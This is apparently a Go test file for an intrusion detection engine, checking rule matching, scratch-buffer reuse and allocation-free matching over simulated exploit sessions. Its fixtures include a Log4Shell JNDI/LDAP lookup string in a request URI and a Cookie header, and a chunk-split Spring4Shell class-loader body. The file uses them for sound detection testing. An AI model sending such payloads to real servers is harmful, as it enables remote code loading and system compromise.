package ids

import (
	"bytes"
	"reflect"
	"testing"

	"repro/internal/netsim"
	"repro/internal/packet"
	"repro/internal/pcapio"
	"repro/internal/scanner"
	"repro/internal/tcpasm"
	"repro/internal/telescope"
)

// studyCorpus is one session per study exploit — every CVE's payload and
// every Log4Shell variant's, from a workload scaled down to its
// one-per-signature minimum — plus a chunk-split body, the one evasion shape
// the generator never emits, with the study ruleset's engine.
func studyCorpus(t testing.TB) (*Engine, []*tcpasm.Session) {
	t.Helper()
	rs, err := scanner.StudyRuleset()
	if err != nil {
		t.Fatal(err)
	}
	bps, err := scanner.Build(scanner.Config{Seed: 1, Scale: 1 << 20, Noise: 1})
	if err != nil {
		t.Fatal(err)
	}
	tel := telescope.NewSim(telescope.SimConfig{Seed: 1})
	var sessions []*tcpasm.Session
	seen := map[int]bool{}
	for _, bp := range bps {
		if bp.SID == 0 || seen[bp.SID] {
			continue
		}
		seen[bp.SID] = true
		s := tel.Session(bp)
		sessions = append(sessions, &s)
	}
	// Spring4Shell's body token split across chunks: only the dechunked
	// body carries the fast pattern.
	sessions = append(sessions, httpSession("POST / HTTP/1.1\r\nHost: target\r\nTransfer-Encoding: chunked\r\n\r\n"+
		"c\r\nclass.module\r\n1e\r\n.classLoader.resources.context\r\n0\r\n\r\n", 8080))
	var cookie, chunk, pct bool
	for _, s := range sessions {
		b := ExtractBuffers(s.ClientData)
		for i := range b.Requests {
			r := &b.Requests[i]
			cookie = cookie || len(r.Cookie) > 0
			chunk = chunk || r.dechunked
			pct = pct || bytes.IndexByte(r.URI, '%') >= 0
		}
	}
	if !cookie || !chunk || !pct {
		t.Fatalf("corpus lacks a Cookie header (%v), a chunked body (%v) or a percent-encoded URI (%v)", cookie, chunk, pct)
	}
	return NewEngine(rs, Config{PortInsensitive: true}), sessions
}

// evasionSessions reassembles every evasion-corpus schedule, and its
// unimpaired baseline, into sessions.
func evasionSessions(t testing.TB) []*tcpasm.Session {
	t.Helper()
	var out []*tcpasm.Session
	for i, c := range conformanceCases(t) {
		client, server := netsim.EvasionEndpoints(1, i)
		for _, src := range []pcapio.PacketSource{
			c.Stream(1, client, server, confStart),
			c.BaselineStream(1, client, server, confStart),
		} {
			asm := tcpasm.NewAssembler(tcpasm.Config{})
			var dec packet.Packet
			for _, p := range drainSchedule(t, src) {
				if packet.DecodeInto(&dec, p.Data) == nil {
					asm.Feed(p.Timestamp, &dec)
				}
			}
			asm.Flush()
			sessions := asm.Sessions()
			for j := range sessions {
				out = append(out, &sessions[j])
			}
		}
	}
	return out
}

// TestEarliestEqualsSortedMatch: Earliest keeps a running minimum instead of
// sorting every match, so it must pick Match's first element — over the
// study corpus, a two-wave Log4Shell session and every evasion-corpus
// session, against the study ruleset and the evasion suite's jndi rule.
func TestEarliestEqualsSortedMatch(t *testing.T) {
	study, sessions := studyCorpus(t)
	sessions = append(sessions, httpSession("GET /?x=${jndi:ldap://e/a} HTTP/1.1\r\nHost: h\r\nCookie: s=${jndi:ldap://e/b}\r\n\r\n", 8080))
	sessions = append(sessions, evasionSessions(t)...)
	matched, multi := 0, 0
	for _, e := range []*Engine{study, jndiEngine(t)} {
		for i, s := range sessions {
			ms := e.Match(s)
			m, ok := e.Earliest(s)
			if ok != (len(ms) > 0) {
				t.Fatalf("session %d: Earliest ok=%v, Match found %d", i, ok, len(ms))
			}
			if !ok {
				continue
			}
			matched++
			if len(ms) > 1 {
				multi++
			}
			w := ms[0]
			if m.Rule != w.Rule || m.SID != w.SID || !m.Published.Equal(w.Published) || !reflect.DeepEqual(m.CVEs, w.CVEs) {
				t.Fatalf("session %d: Earliest sid %d, Match[0] sid %d", i, m.SID, w.SID)
			}
		}
	}
	if matched < len(sessions) || multi == 0 {
		t.Fatalf("weak fixture: %d matched sessions (of %d per engine), %d with several matches", matched, len(sessions), multi)
	}
}

// TestMatchScratchReuse: a pooled scratch carries marks, candidates,
// requests and arena from session to session, so verdicts through one
// reused scratch — sessions in both orders, engines of different pattern
// counts interleaved — must equal verdicts from a fresh scratch; and a
// scratch handed back to the pool holds no view into the last client stream.
func TestMatchScratchReuse(t *testing.T) {
	study, sessions := studyCorpus(t)
	sessions = append(sessions, evasionSessions(t)...)
	engines := []*Engine{study, jndiEngine(t)}
	reused := newMatchScratch()
	for round := 0; round < 2; round++ {
		for i := range sessions {
			s := sessions[i]
			if round == 1 {
				s = sessions[len(sessions)-1-i]
			}
			e := engines[(i+round)%2]
			want, wantOK := e.earliest(s, newMatchScratch())
			got, gotOK := e.earliest(s, reused)
			if gotOK != wantOK || !reflect.DeepEqual(got, want) {
				t.Fatalf("round %d session %d: reused scratch gave (%d, %v), fresh (%d, %v)", round, i, got.SID, gotOK, want.SID, wantOK)
			}
			reused.forget()
			if reused.bufs.Raw != nil || len(reused.bufs.Requests) != 0 || reused.byPat != nil {
				t.Fatal("forgotten scratch still references the session or engine")
			}
			for j, r := range reused.bufs.Requests[:cap(reused.bufs.Requests)] {
				if r.Method != nil || r.URI != nil || r.Headers != nil || r.Cookie != nil || r.Body != nil || r.norm != nil {
					t.Fatalf("forgotten scratch still holds request %d's views", j)
				}
			}
		}
	}
}

// BenchmarkEngineEarliest is the hit path: each op runs the study corpus —
// one session per study exploit, Log4Shell variants included, with a Cookie
// header, a chunk-split body and percent-encoded URIs among them — through
// Earliest. Its recorded allocs_per_op of 0 in BENCH_analysis.json is a
// hard gate, like the automaton's.
func BenchmarkEngineEarliest(b *testing.B) {
	e, sessions := studyCorpus(b)
	run := func() {
		for _, s := range sessions {
			if _, ok := e.Earliest(s); !ok {
				b.Fatal("study session matched no rule")
			}
		}
	}
	run() // warm the pooled scratch
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		run()
	}
}
